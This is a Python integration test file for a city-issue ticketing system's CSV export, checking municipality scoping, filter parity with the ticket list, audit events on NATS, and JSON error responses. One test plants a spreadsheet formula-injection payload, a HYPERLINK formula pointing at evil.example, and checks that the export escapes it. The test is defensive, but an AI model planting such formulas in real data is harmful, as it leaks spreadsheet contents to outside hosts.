"""The CSV export through the whole system over HTTP and NATS (the `world` fixture): a manager downloads
their municipality's tickets as a file a spreadsheet opens (read back here with the csv module), by the
same query string as the ticket list and holding the same tickets, in several chunks; formulas in reports
arrive as text; the export is audited once on the bus, under the request's correlation id; refusals are
JSON errors before any file begins."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import AsyncIterator
from datetime import datetime
from typing import Any
from zoneinfo import ZoneInfo

import httpx
import pytest
from nats.aio.client import Client as NatsClient
from nats.aio.msg import Msg

from cityfix_contracts.commands.ticket_export import EXPORT_COLUMNS
from services.common.testing import eventually
from services.tickets import export
from tests.support.stack import World, world
from tests.support.tickets import reported, tickets_know_operators, worked

__all__ = ["world"]

EXPORT = "/api/v1/tickets/export.csv"


@pytest.fixture
async def exports_seen(nats_client: NatsClient) -> AsyncIterator[list[dict[str, Any]]]:
    """Every ExportPerformed on CITYFIX_EVENTS, as an outside subscriber receives it."""
    received: list[dict[str, Any]] = []

    async def outside(msg: Msg) -> None:
        received.append(json.loads(msg.data))

    subscription = await nats_client.jetstream().subscribe(
        "cityfix.events.*.export.>", cb=outside, ordered_consumer=True
    )
    yield received
    await subscription.unsubscribe()


async def download(w: World, person: str, **params: Any) -> httpx.Response:
    return await w.http.get(EXPORT, params=params, headers=w.person(person).auth())


def rows_of(response: httpx.Response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.text
    assert response.content.startswith(b"\xef\xbb\xbf")  # UTF-8 with a byte-order mark
    reader = csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"), newline=""))
    assert tuple(reader.fieldnames or ()) == EXPORT_COLUMNS
    return list(reader)


async def listed_ids(w: World, person: str, **params: Any) -> set[str]:
    response = await w.http.get(
        "/api/v1/tickets", params={**params, "limit": 100}, headers=w.person(person).auth()
    )
    assert response.status_code == 200, response.text
    assert response.json()["next_cursor"] is None
    return {ticket["id"] for ticket in response.json()["data"]}


async def test_a_manager_downloads_their_municipalitys_tickets(
    world: World, exports_seen: list[dict[str, Any]], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(export, "PAGE_ROWS", 2)  # five tickets of A: three chunks
    formula = '=HYPERLINK("http://evil.example/?"&A1;"Open")'
    attack = await reported(world, "citizen", "A", description=formula, address="+49 331 1234567")
    others = [await reported(world, "citizen_2", "A", description=f"Bench {n} broken") for n in range(3)]
    worked_on = await reported(world, "citizen", "A", description="Street lamp out")
    await tickets_know_operators(world)
    operator = world.person("operator_a")
    await worked(world, worked_on["id"], "manager_a", "assignment", {"operator_id": operator.id})
    in_b = await reported(world, "citizen", "B", description="Pothole at the market")
    ours = [attack, *others, worked_on]

    response = await download(world, "manager_a")
    rows = rows_of(response)
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["cache-control"] == "no-store"
    assert [row["id"] for row in rows] == [ticket["id"] for ticket in ours]  # oldest first, A's only
    assert all(row["municipality_id"] == world.municipality_a for row in rows)
    by_id = {row["id"]: row for row in rows}
    assert by_id[attack["id"]]["description"] == "'" + formula
    assert by_id[attack["id"]]["address"] == "'+49 331 1234567"
    assert by_id[attack["id"]]["reference"] == attack["reference"]
    assert by_id[attack["id"]]["category_name"] == "Pothole"
    assert by_id[attack["id"]]["municipality_name"] == "Potsdam"
    assignee = by_id[worked_on["id"]]
    assert assignee["status"] == "assigned" and assignee["assigned_operator_id"] == operator.id
    assert assignee["assigned_operator_name"]
    text = response.content.decode("utf-8-sig")
    for person in ("citizen", "citizen_2"):
        assert world.person(person).id not in text and world.person(person).email not in text
    assert in_b["id"] not in text

    # Audited once, under the request's correlation id, with the count.
    async def audited() -> bool:
        return len(exports_seen) >= 1

    await eventually(audited, what="ExportPerformed on CITYFIX_EVENTS")
    event = exports_seen[0]
    assert event["event_type"] == "ExportPerformed"
    assert event["aggregate_id"] == response.headers["x-export-id"] == event["data"]["export_id"]
    assert event["sequence"] == 1 and event["municipality_id"] == world.municipality_a
    assert event["actor"] == {"user_id": world.person("manager_a").id, "role": "manager"}
    assert event["correlation_id"] == response.headers["x-correlation-id"]
    assert event["data"]["row_count"] == len(ours)
    # The file is named after the municipality and the day the export started there.
    started = datetime.fromisoformat(event["data"]["as_of"]).astimezone(ZoneInfo("Europe/Berlin"))
    file_name = f"tickets-potsdam-{started.date().isoformat()}.csv"
    assert response.headers["content-disposition"] == f'attachment; filename="{file_name}"'


async def test_the_export_takes_the_lists_query_string_and_holds_the_same_tickets(world: World) -> None:
    lamp = await reported(world, "citizen", "A", description="Straßenlaterne kaputt")
    bench = await reported(world, "citizen_2", "A", description="Broken bench")
    await reported(world, "citizen", "B", description="Straßenschaden")
    await tickets_know_operators(world)
    await worked(world, bench["id"], "manager_a", "status", {"status": "triaged"})
    queries: list[dict[str, Any]] = [
        {},
        {"status": "received,triaged"},
        {"status": ["triaged"]},
        {"q": "STRASSENLATERNE"},
        {"category_id": world.category_a, "priority": "normal,high"},
        {"near": "52.40,13.06", "radius": 300},
        {"municipality_id": world.municipality_a, "status": "closed"},
    ]
    for params in queries:
        exported = {row["id"] for row in rows_of(await download(world, "manager_a", **params))}
        assert exported == await listed_ids(world, "manager_a", **params), params
    assert {row["id"] for row in rows_of(await download(world, "manager_a", q="strasse"))} == {lamp["id"]}

    in_b = rows_of(await download(world, "admin", municipality_id=world.municipality_b))
    assert [row["municipality_id"] for row in in_b] == [world.municipality_b]
    assert in_b[0]["description"] == "Straßenschaden"


async def test_refusals_are_json_errors_before_any_file(world: World) -> None:
    await reported(world, "citizen", "A")
    cases = [
        ("manager_a", {"status": "bogus"}, 422, "validation_failed"),
        (
            "manager_a",
            {"created_from": "2026-01-02T00:00:00Z", "created_to": "2026-01-01T00:00:00Z"},
            422,
            None,
        ),
        ("manager_a", {"municipality_id": world.municipality_b}, 403, "other_municipality"),
        ("admin", {}, 422, "municipality_required"),
        ("admin", {"municipality_id": "no-such-municipality"}, 404, "municipality_not_found"),
        ("operator_a", {}, 403, "forbidden"),
        ("citizen", {}, 403, "forbidden"),
    ]
    for person, params, status, code in cases:
        response = await download(world, person, **params)
        assert response.status_code == status, (person, params, response.text)
        assert response.headers["content-type"] == "application/json"
        assert "content-disposition" not in response.headers
        error = response.json()["error"]
        assert code is None or error["code"] == code, error
        assert error["message"]
    anonymous = await world.http.get(EXPORT)
    assert anonymous.status_code == 401 and anonymous.json()["error"]["code"] == "unauthenticated"
    assert anonymous.headers["www-authenticate"].startswith("Bearer")
